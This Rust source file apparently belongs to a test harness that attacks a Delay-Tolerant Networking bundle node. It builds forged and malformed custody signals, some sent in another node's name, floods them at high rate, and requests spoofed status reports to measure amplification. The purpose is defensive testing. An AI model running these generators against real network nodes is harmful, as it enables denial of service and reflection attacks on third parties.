//! A neighbour that was let in, and signals custody and reports of bundles that it never had. All nodes take custody,
//! and report compressed.

use super::{Case, Outcome, Target};
use crate::attack::stage::LIAR;
use crate::attack::wire::PATIENCE;
use crate::attack::wire::bundle::{Bundle, put, put_endpoint};
use crate::attack::wire::tcpcl::{Session, transfer};
use crate::crash::aap2::Client;
use anyhow::Result;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

/// Signals.
pub const SIGNALS: Case = Case {
    name: "custody-signals",
    what: "A configured neighbour says a thousand times a second, also in another's name, that it took or refused \
           custody of all bundles there are, in one run, in 30,000, of 4,000 counters or beside 15,000 other things, and reports \
           them.",
    run: signals,
};
/// Reports that others ask for.
pub const REPORTS: Case = Case {
    name: "compressed-reports",
    what: "A configured neighbour asks for compressed reports of 30,000 bundles, each in another's name, half of them \
           to an application of the neighbour that asked for none.",
    run: reports,
};

/// An administrative record (RFC 9171 4.2.3).
const RECORD: u64 = 2;
/// Record types and block type of CCSDS 734.6-O-1.
const CUSTODY: u64 = 13;
const REPORTING: u64 = 14;
/// Most bytes of reports for each byte that came.
const AMPLIFICATION_MAX: f64 = 1.0;

/// Offers bundles as the neighbour that lies, evenly over the attack's time; how many, and how many bytes.
fn offer(target: &Target, total: u64, mut bundle: impl FnMut(u64) -> Vec<u8>) -> (u64, u64) {
    let (mut session, mut transfers, mut sent) = (None, 0, (0, 0));
    for number in target.paced(total) {
        if session.is_none() {
            transfers = 0;
            session = Session::open(LIAR.0, target.tcpcl, "ipn:66.0").ok();
        }
        let Some(open) = &mut session else {
            std::thread::sleep(PATIENCE / 10);
            continue;
        };
        let bytes = transfer(transfers, &bundle(number));
        transfers += 1;
        if open.push(&bytes, target.end()) {
            sent = (sent.0 + 1, sent.1 + bytes.len() as u64);
        } else {
            session = None;
        }
    }
    target.hold();
    sent
}

fn signals(target: &Target) -> Result<Outcome> {
    let (sent, bytes) = offer(target, 1000 * target.lasts.as_secs().max(1), signal);
    Ok(Outcome::of(format!("{sent} signals, {} MB", bytes / 1_000_000)))
}

/// One signal.
fn signal(number: u64) -> Vec<u8> {
    let mut record = Vec::new();
    put(&mut record, 4, 2);
    put(&mut record, 0, if number % 7 == 6 { REPORTING } else { CUSTODY });
    // What else may be said, of no bundle.
    let others = if number % 7 == 1 { 15_000 } else { 0 };
    put(&mut record, 5, 1 + others);
    for other in 0..others {
        put(&mut record, 0, 100 + other);
        put(&mut record, 4, 0);
    }
    // 1: taken; -1: refused.
    let (major, value) = if number.is_multiple_of(2) { (0, 1) } else { (1, 0) };
    put(&mut record, major, value);
    let counters = if number % 7 == 4 { 4_000 } else { 1 };
    put(&mut record, 4, counters);
    for counter in 1..=counters {
        put(&mut record, 4, 3);
        put(&mut record, 0, counter);
        match number % 7 {
            // One by one, with a gap behind each.
            2 => {
                put(&mut record, 0, number);
                put(&mut record, 4, 60_001);
                record.extend([1; 60_001]);
            }
            // Beyond what numbers there are.
            3 => [5, u64::MAX].iter().for_each(|value| put(&mut record, 0, *value)),
            _ => [0, u64::MAX].iter().for_each(|value| put(&mut record, 0, *value)),
        }
    }
    let source = if number % 7 == 5 { "ipn:2.0" } else { "ipn:66.0" };
    Bundle { source: source.into(), flags: RECORD, ..Bundle::new("ipn:1.0", number) }.with(&record)
}

fn reports(target: &Target) -> Result<Outcome> {
    // What the victim gets; the reader ends with its node.
    let received = Arc::new(AtomicU64::new(0));
    let counted = received.clone();
    let mut victim = Client::attach_with(&target.neighbours_applications, "ipn:2.99", "victim", 64)?;
    std::thread::spawn(move || -> std::io::Result<()> {
        victim.set_timeout(Duration::from_secs(3600))?;
        loop {
            let report = Bundle::new("ipn:2.99", 0).with(&victim.delivery()?.payload);
            counted.fetch_add(report.len() as u64, Ordering::Relaxed);
            victim.taken()?;
        }
    });
    let (sent, bytes) = offer(target, 30_000, |number| {
        let mut block = Vec::new();
        put(&mut block, 4, 5);
        // A number and a counter far from the last, and everything asked for.
        [number << 40, number, 0x3f].iter().for_each(|value| put(&mut block, 0, *value));
        put_endpoint(&mut block, &format!("ipn:{}.1", 1000 + number));
        let other = format!("ipn:2.{}", 1000 + number);
        put_endpoint(&mut block, if number % 2 == 0 { "ipn:2.99" } else { &other });
        let mut bundle = Bundle::new("ipn:404.1", number);
        bundle.extension = Some((REPORTING, block));
        bundle.lifetime = Duration::from_secs(1);
        bundle.with(b"x")
    });
    let ratio = received.load(Ordering::Relaxed) as f64 / bytes.max(1) as f64;
    Ok(Outcome::of(format!("{sent} bundles, {ratio:.2} bytes of reports per byte"))
        .unless(ratio <= AMPLIFICATION_MAX, || format!("{ratio:.2} bytes of reports per byte")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn signals_are_about_everything_and_some_are_long() {
        let bytes = signal(0);
        assert!(bytes.windows(9).any(|part| part == [0x82, 13, 0xa1, 1, 0x81, 0x83, 1, 0, 0x1b]));
        let refused = signal(3);
        assert!(refused.windows(4).any(|part| part == [13, 0xa1, 0x20, 0x81]));
        assert!((1..=4).all(|number| number == 3 || signal(number).len() > 50_000));
    }
}
